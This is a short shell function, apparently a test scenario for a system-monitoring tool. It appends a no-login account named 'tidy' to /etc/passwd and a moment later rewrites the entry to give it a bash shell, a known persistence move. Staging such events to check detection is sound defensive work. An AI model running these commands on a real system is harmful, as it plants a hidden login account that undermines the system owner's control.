# A shell adds an account without a login shell, and a second later gives it one.
act() {
    echo 'tidy:x:991:991::/:/usr/sbin/nologin' >>/etc/passwd
    sleep 1.5
    sed -i 's#^tidy:.*#tidy:x:991:991::/:/bin/bash#' /etc/passwd
}
